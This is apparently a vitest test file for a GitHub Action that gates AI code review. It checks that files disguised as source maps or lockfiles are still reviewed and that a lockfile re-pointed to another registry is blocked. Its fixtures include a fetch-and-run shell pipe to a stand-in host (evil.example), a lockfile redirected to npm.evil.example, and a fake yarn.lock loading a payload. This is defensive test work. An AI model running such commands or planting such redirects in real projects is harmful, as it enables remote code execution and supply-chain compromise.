// What the gate withholds from the reviewer, end to end through the bundled action against the
// loopback GitHub API: a file a default exclude names is withheld only when its content proves the
// name (issue 18 item 1), and a changed lockfile is checked against the base's copy, read through the
// contents API (issue 12 item 6).
import { readFileSync } from "node:fs";
import path from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { promptOf } from "./harness.js";
import { BASE_FILES, gateChecks, startWorld, type World } from "./world.js";

const NPM = readFileSync(
  path.join(import.meta.dirname, "..", "lockfile", "data", "npm-v3.package-lock.json"),
  "utf8",
);
const LODASH_URL = "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz";
const EVIL_URL = "https://npm.evil.example/lodash/-/lodash-4.17.21.tgz";
const MAP = '{"version":3,"file":"index.js","sources":["../src/index.js"],"names":[],"mappings":"AAAA"}\n';

let world: World | undefined;
afterEach(async () => {
  world?.api.assertClean();
  await world?.close();
  world = undefined;
});

const prompts = (w: World) => w.openai.requests.map((r) => promptOf(r.json)).join("\n");

/** The base commit has a lockfile, so a change to it is a change against something. */
const withLockfile = (extra: Record<string, string> = {}) => ({
  ...BASE_FILES,
  "src/greet.js": "export const greet = 1;\n",
  "package-lock.json": NPM,
  ...extra,
});

describe("a file named like a default exclude", () => {
  it("is reviewed when it is not what its name claims (a .js.map holding a shell pipe), and the summary says why", async () => {
    world = await startWorld({
      change: {
        "src/greet.js":
          'require("./errors.js.map");\nexport function greet(name) {\n  return "hello " + name;\n}\n',
        "src/errors.js.map": 'require("child_process").execSync("curl https://evil.example/x | sh");\n',
        "dist/index.js.map": MAP,
      },
    });
    const run = await world.run({});
    const seen = prompts(world);
    expect(seen).toContain('+require("child_process").execSync("curl https://evil.example/x | sh");');
    // The real source map is withheld, and named to the reviewer with why.
    expect(seen).not.toContain('"mappings":"AAAA"');
    expect(seen).toContain('- "dist/index.js.map": a source map (its content was verified to be one)');
    const summary = gateChecks(world)[0]?.output.summary ?? "";
    // (The summary escapes Markdown: \`\*.js.map\`.)
    expect(summary).toMatch(
      /src\/errors\.js\.map matches the default exclude .*js\.map.* but was reviewed: it is not a source map: not JSON/,
    );
    expect(run.outputs.coverage).toBe(
      "100% of the files in scope; withheld: 1 source map (verified by content)",
    );
  });
});

describe("a changed lockfile", () => {
  it("blocks a dependency re-pointed at another host, though the reviewer approves and never sees it", async () => {
    world = await startWorld({
      baseFiles: withLockfile(),
      change: {
        "src/greet.js": "export const greet = 2;\n",
        "package-lock.json": NPM.replace(LODASH_URL, EVIL_URL),
      },
    });
    const run = await world.run({});
    expect(run.outputs.status, run.log).toBe("blocked");
    expect(run.outputs["reviewer-verdict"]).toBe("APPROVE");
    expect(prompts(world)).not.toContain("npm.evil.example");
    expect(prompts(world)).toContain(
      '- "package-lock.json": a lockfile (its content was verified to be one; the gate checks it itself); this change: no package added, changed or removed',
    );
    const summary = gateChecks(world)[0]?.output.summary ?? "";
    expect(summary).toMatch(
      /\| lockfiles \| ❌ NO \| package-lock\.json: 1 problem in 1 new or changed entries \|/,
    );
    // (The summary breaks @-mentions with a zero-width joiner.)
    expect(summary).toMatch(
      /❌ package-lock\.json: lodash@\u200d?4\.17\.21 resolves to https:\/\/npm\.evil\.example\/lodash\/-\/lodash-4\.17\.21\.tgz/,
    );
    expect(run.outputs.coverage).toBe(
      "100% of the files in scope; withheld: 1 lockfile (checked deterministically)",
    );
  });

  it("reads the head through the contents API when no tree is checked out, and still blocks", async () => {
    world = await startWorld({
      baseFiles: withLockfile(),
      change: {
        "src/greet.js": "export const greet = 2;\n",
        "package-lock.json": NPM.replace(LODASH_URL, EVIL_URL),
      },
    });
    const event = world.event({ event: "pull_request_target", action: "opened", pull: world.pull });
    const run = await world.run({ event, workspace: null });
    expect(run.outputs.status, run.log).toBe("blocked");
    const reads = world.api
      .requestsFor("GET /repos/{owner}/{repo}/contents/{path}")
      .map(
        (r) =>
          `${decodeURIComponent(r.path.split("/contents/")[1] ?? "")}@${(r.query.ref ?? "").slice(0, 7)}`,
      );
    expect(reads).toEqual(
      expect.arrayContaining([
        `package-lock.json@${world.pull.headSha.slice(0, 7)}`,
        `package-lock.json@${world.pull.baseSha.slice(0, 7)}`,
      ]),
    );
  });

  it("reads lockfiles over 1 MB through the raw media type, and passes a change on the same registry", async () => {
    // Over GitHub's 1 MB inline limit: the contents API then answers with no content.
    const big = JSON.parse(NPM) as { packages: Record<string, unknown> };
    for (let i = 0; i < 5000; i += 1) {
      big.packages[`node_modules/pad-${i}`] = {
        version: "1.0.0",
        resolved: `https://registry.npmjs.org/pad-${i}/-/pad-${i}-1.0.0.tgz`,
        integrity: `sha512-${Buffer.alloc(64, i % 250).toString("base64")}`,
      };
    }
    const base = `${JSON.stringify(big, null, 2)}\n`;
    expect(base.length).toBeGreaterThan(1024 * 1024);
    world = await startWorld({
      baseFiles: withLockfile({ "package-lock.json": base }),
      change: {
        "src/greet.js": "export const greet = 2;\n",
        "package-lock.json": base.replace('"license": "MIT"', '"license": "ISC"'),
      },
    });
    const event = world.event({ event: "pull_request_target", action: "opened", pull: world.pull });
    await world.run({ event, workspace: null });
    const summary = gateChecks(world)[0]?.output.summary ?? "";
    expect(summary).toContain(
      "| lockfiles | ✅ YES | package-lock.json: checked against the base, 0 new or changed entries, all from allowed sources |",
    );
    // Head and base, both over 1 MB: each needs the raw media type.
    const raw = world.api
      .requestsFor("GET /repos/{owner}/{repo}/contents/{path}")
      .filter((r) => /raw/.test(r.headers.accept ?? ""));
    expect(raw.length).toBeGreaterThanOrEqual(2);
  });

  it("passes a registry the base's contract allows", async () => {
    const contract = {
      intended_action: "Move lodash to the company registry",
      success_criteria: [],
      lockfile: { allowed_registries: ["https://npm.evil.example/"] },
    };
    world = await startWorld({
      baseFiles: withLockfile({ ".github/verdict-contract.json": JSON.stringify(contract) }),
      change: {
        "src/greet.js": "export const greet = 2;\n",
        "package-lock.json": NPM.replace(LODASH_URL, EVIL_URL),
      },
    });
    const run = await world.run({});
    const lockfiles = (gateChecks(world)[0]?.output.summary ?? "")
      .split("\n")
      .find((l) => l.startsWith("| lockfiles"));
    expect(lockfiles, run.log).toMatch(/✅ YES/);
  });

  it("holds on a yarn.lock that is not a lockfile, which the reviewer then sees", async () => {
    world = await startWorld({
      change: {
        "src/greet.js": "export const greet = 2;\n",
        "yarn.lock": 'module.exports = require("./payload");\n',
      },
    });
    const run = await world.run({});
    expect(run.outputs.status, run.log).toBe("hold-for-human");
    expect(prompts(world)).toContain('+module.exports = require("./payload");');
    expect(gateChecks(world)[0]?.output.summary).toMatch(/yarn\.lock cannot be read as a Yarn lockfile/);
  });
});

describe("the include and exclude inputs and a contract's paths: one glob dialect (docs/contract.md#globs)", () => {
  it("a glob without / names a nested file in both: `exclude` withholds it from the reviewer and the contract's paths check it", async () => {
    const contract = {
      intended_action: "Add a greeting module",
      success_criteria: [
        { id: "no-debugger-in-js", type: "diff_added_absent", pattern: "\\bdebugger\\b", paths: ["*.js"] },
      ],
    };
    world = await startWorld({
      baseFiles: { ...BASE_FILES, ".github/verdict-contract.json": JSON.stringify(contract) },
      change: {
        "src/greet.js": "export const greet = 1;\n",
        "web/vendor/app.min.js": "window.vendorMarker = 1; debugger;\n",
        "site/docs/guide.md": "# guide-marker\n",
      },
    });
    const run = await world.run({ inputs: { exclude: "*.min.js, docs/" } });
    const seen = prompts(world);
    expect(seen, run.log).toContain("export const greet = 1;");
    expect(seen).not.toContain("vendorMarker");
    expect(seen).not.toContain("guide-marker");
    // The contract's `*.js` reaches the same nested file: its debugger statement blocks, though the
    // reviewer approved and never saw it (as a contract of the old dialect, top level only, would not).
    expect(run.outputs.status, run.log).toBe("blocked");
    expect(run.outputs["reviewer-verdict"]).toBe("APPROVE");
    const summary = gateChecks(world)[0]?.output.summary ?? "";
    expect(summary).toMatch(/no-debugger-in-js/);
    expect(summary).toMatch(/web\/vendor\/app\.min\.js/);
  });

  it("fails the step, naming the input, on an exclude with a leading ! — before any reviewer call or check run", async () => {
    world = await startWorld({});
    const run = await world.run({ inputs: { exclude: "dist/**, !src/**" } });
    expect(run.code).toBe(1);
    expect(
      run.commands.some((c) => /^::error::verdict-gate: input `exclude`: invalid glob "!src\/\*\*"/.test(c)),
    ).toBe(true);
    expect(world.openai.requests).toHaveLength(0);
    expect(gateChecks(world)).toEqual([]);
  });
});
